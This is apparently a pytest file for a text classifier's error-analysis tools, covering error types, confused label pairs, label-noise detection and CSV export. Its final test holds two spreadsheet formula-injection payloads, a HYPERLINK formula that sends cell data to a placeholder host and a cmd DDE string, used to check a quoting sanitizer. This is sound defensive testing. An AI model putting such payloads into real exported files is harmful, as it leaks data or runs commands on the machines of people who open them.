"""Error analysis: error types, confused pairs and likely label errors on hand-made cases."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from textclf.diagnostics.errors import (
    ERROR_COLUMNS,
    confused_pairs,
    error_table,
    likely_label_errors,
)

LABELS = ["a", "b", "c"]


def test_multiclass_error_types_and_order():
    proba = np.array(
        [
            [0.95, 0.03, 0.02],  # true b, predicted a with 0.95 → confident error
            [0.50, 0.45, 0.05],  # true b, predicted a, p(a) − p(b) = 0.05 → near threshold
            [0.60, 0.10, 0.30],  # true c, predicted a, margin 0.30 → confused pair
            [0.10, 0.80, 0.10],  # true b, right
        ]
    )
    y = np.array([1, 1, 2, 1])
    t = error_table(
        texts=["w", "x", "y", "z"],
        y_true=y,
        proba=proba,
        task="multiclass",
        labels=LABELS,
        rows=[10, 11, 12, 13],
    )
    assert list(t.columns) == ERROR_COLUMNS
    assert t["row"].tolist() == [10, 12, 11]  # confident first, near-threshold last
    assert t["error_type"].tolist() == ["confident error", "confused pair", "near threshold"]
    assert t.loc[0, "true"] == "b" and t.loc[0, "predicted"] == "a"
    assert t.loc[0, "confidence"] == pytest.approx(0.95)
    assert t.loc[0, "true_label_score"] == pytest.approx(0.03)
    assert t.loc[2, "margin"] == pytest.approx(0.05)


def test_binary_margin_is_distance_to_the_tuned_threshold():
    proba = np.array([[0.35, 0.65], [0.75, 0.25]])
    y = np.array([0, 1])
    t = error_table(
        texts=["p", "q"],
        y_true=y,
        proba=proba,
        task="binary",
        labels=["neg", "pos"],
        thresholds=0.3,
    )
    # Both are errors at threshold 0.3: 0.65 ≥ 0.3 predicts pos; 0.25 < 0.3 predicts neg.
    assert sorted(t["row"]) == [0, 1]
    margins = dict(zip(t["row"], t["margin"], strict=True))
    assert margins[0] == pytest.approx(0.35) and margins[1] == pytest.approx(0.05)
    assert dict(zip(t["row"], t["error_type"], strict=True))[1] == "near threshold"


def test_multilabel_missed_extra_and_near():
    proba = np.array(
        [
            [0.8, 0.2, 0.1],  # true a|b: b missed (0.2, 0.3 from 0.5) → missed label
            [0.8, 0.7, 0.1],  # true a: b extra (0.7) → extra label
            [0.2, 0.7, 0.1],  # true a: a missed, b extra → missed and extra labels
            [0.55, 0.1, 0.1],  # true none... a extra at 0.55, near 0.5 → near threshold
            [0.97, 0.1, 0.1],  # true b: a extra at 0.97 → confident error
            [0.9, 0.1, 0.1],  # true a, right
        ]
    )
    y = np.array([[1, 1, 0], [1, 0, 0], [1, 0, 0], [0, 0, 0], [0, 1, 0], [1, 0, 0]])
    t = error_table(texts=list("uvwxyz"), y_true=y, proba=proba, task="multilabel", labels=LABELS)
    kinds = dict(zip(t["row"], t["error_type"], strict=True))
    assert kinds == {
        0: "missed label",
        1: "extra label",
        2: "missed and extra labels",
        3: "near threshold",
        4: "confident error",
    }
    row2 = t[t["row"] == 2].iloc[0]
    assert row2["missed"] == "a" and row2["extra"] == "b" and row2["predicted"] == "b"
    assert row2["true"] == "a"


def test_multilabel_confidence_puts_misses_and_extras_on_one_scale():
    proba = np.array(
        [
            [0.02, 0.1, 0.1],  # true a: a missed at 0.02 → 0.98 sure it is absent
            [0.1, 0.95, 0.1],  # true a|c: both missed at 0.1 (0.9 sure), b extra at 0.95
            [0.7, 0.1, 0.1],  # true none: a extra at 0.7
            [0.8, 0.3, 0.6],  # true a|b: b missed at 0.3 → 0.7 sure; c extra at 0.6
        ]
    )
    y = np.array([[1, 0, 0], [1, 0, 1], [0, 0, 0], [1, 1, 0]])
    t = error_table(texts=list("wxyz"), y_true=y, proba=proba, task="multilabel", labels=LABELS)
    conf = dict(zip(t["row"], t["confidence"], strict=True))
    assert conf[0] == pytest.approx(0.98) and conf[1] == pytest.approx(0.95)
    assert conf[2] == pytest.approx(0.7) and conf[3] == pytest.approx(0.7)
    # The confident miss ranks above the confident extra: both are confident errors.
    assert t["row"].tolist()[:2] == [0, 1]
    true_score = dict(zip(t["row"], t["true_label_score"], strict=True))
    assert true_score[0] == pytest.approx(0.02)
    assert true_score[1] == pytest.approx(0.1)  # the weaker of a (0.1) and c (0.1)
    assert true_score[3] == pytest.approx(0.3)
    assert np.isnan(true_score[2])  # no true label: undefined, not 1.0


def test_no_errors_gives_an_empty_table_with_the_columns():
    t = error_table(
        texts=["a"],
        y_true=np.array([0]),
        proba=np.array([[0.9, 0.1]]),
        task="binary",
        labels=["x", "y"],
    )
    assert len(t) == 0 and list(t.columns) == ERROR_COLUMNS


def test_confused_pairs_counts_and_shares():
    y_true = np.array([0, 0, 0, 0, 1, 1, 2])
    y_pred = np.array([0, 1, 1, 2, 1, 0, 2])
    pairs = confused_pairs(y_true, y_pred, LABELS)
    assert pairs.iloc[0].tolist() == ["a", "b", 2, 0.5]
    assert set(map(tuple, pairs[["true", "predicted"]].values)) == {
        ("a", "b"),
        ("a", "c"),
        ("b", "a"),
    }
    assert pairs["count"].sum() == int((y_true != y_pred).sum())


def test_confused_pairs_multilabel_pairs_misses_with_extras():
    y_true = np.array([[1, 0, 0], [1, 0, 0], [0, 1, 0]])
    y_pred = np.array([[0, 1, 0], [0, 0, 0], [0, 1, 1]])
    pairs = confused_pairs(y_true, y_pred, LABELS)
    got = {(r.true, r.predicted): r.count for r in pairs.itertuples()}
    assert got == {("a", "b"): 1, ("a", "none"): 1, ("none", "c"): 1}


def _flag_noisy(noisy: np.ndarray, proba: np.ndarray, task: str) -> pd.DataFrame:
    """``likely_label_errors`` on texts t0, t1, … with the (partly flipped) labels ``noisy``."""
    return likely_label_errors(
        texts=[f"t{i}" for i in range(len(noisy))],
        y_true=noisy,
        proba=proba,
        task=task,
        labels=LABELS,
    )


def test_likely_label_errors_finds_flipped_labels():
    rng = np.random.default_rng(0)
    n, k = 300, 3
    y = rng.integers(0, k, n)
    proba = rng.dirichlet(np.ones(k), n) * 0.2
    proba[np.arange(n), y] += 0.8
    noisy = y.copy()
    flipped = np.arange(8)
    noisy[flipped] = (y[flipped] + 1) % k
    found = _flag_noisy(noisy, proba, "multiclass")
    # Confident learning estimates how many labels are noisy, so it may keep a few back;
    # what it flags must be real, and it must catch most of them.
    assert set(found["row"]) <= set(flipped)
    assert len(found) >= 6
    first = found.iloc[0]
    assert first["suggested"] == LABELS[y[first["row"]]]
    assert first["given"] == LABELS[noisy[first["row"]]]
    assert found["label_quality"].is_monotonic_increasing


def test_likely_label_errors_multilabel():
    rng = np.random.default_rng(1)
    n, k = 300, 3
    y = (rng.random((n, k)) < 0.4).astype(int)
    proba = np.clip(y * 0.8 + rng.random((n, k)) * 0.15, 0, 1)
    noisy = y.copy()
    noisy[:5, 0] = 1 - noisy[:5, 0]
    found = _flag_noisy(noisy, proba, "multilabel")
    assert set(found["row"]) <= set(range(5))
    assert len(found) >= 4


def test_likely_label_errors_skips_when_too_small():
    found = likely_label_errors(
        texts=["a", "b"],
        y_true=np.array([0, 1]),
        proba=np.array([[0.9, 0.1], [0.2, 0.8]]),
        task="binary",
        labels=["x", "y"],
    )
    assert isinstance(found, pd.DataFrame) and len(found) == 0


def test_cells_a_spreadsheet_would_run_are_quoted():
    """Security review: errors.csv held texts like =HYPERLINK(…) that run when opened."""
    import pandas as pd

    from textclf.diagnostics.errors import spreadsheet_safe

    frame = pd.DataFrame(
        {"row": [1, 2, 3], "text": ['=HYPERLINK("http://x/?d="&A3)', "+cmd|' /C calc'!A0", "fine"]}
    )
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist() == ["'" + frame["text"][0], "'" + frame["text"][1], "fine"]
    assert safe["row"].tolist() == [1, 2, 3] and frame["text"][2] == "fine"  # a copy
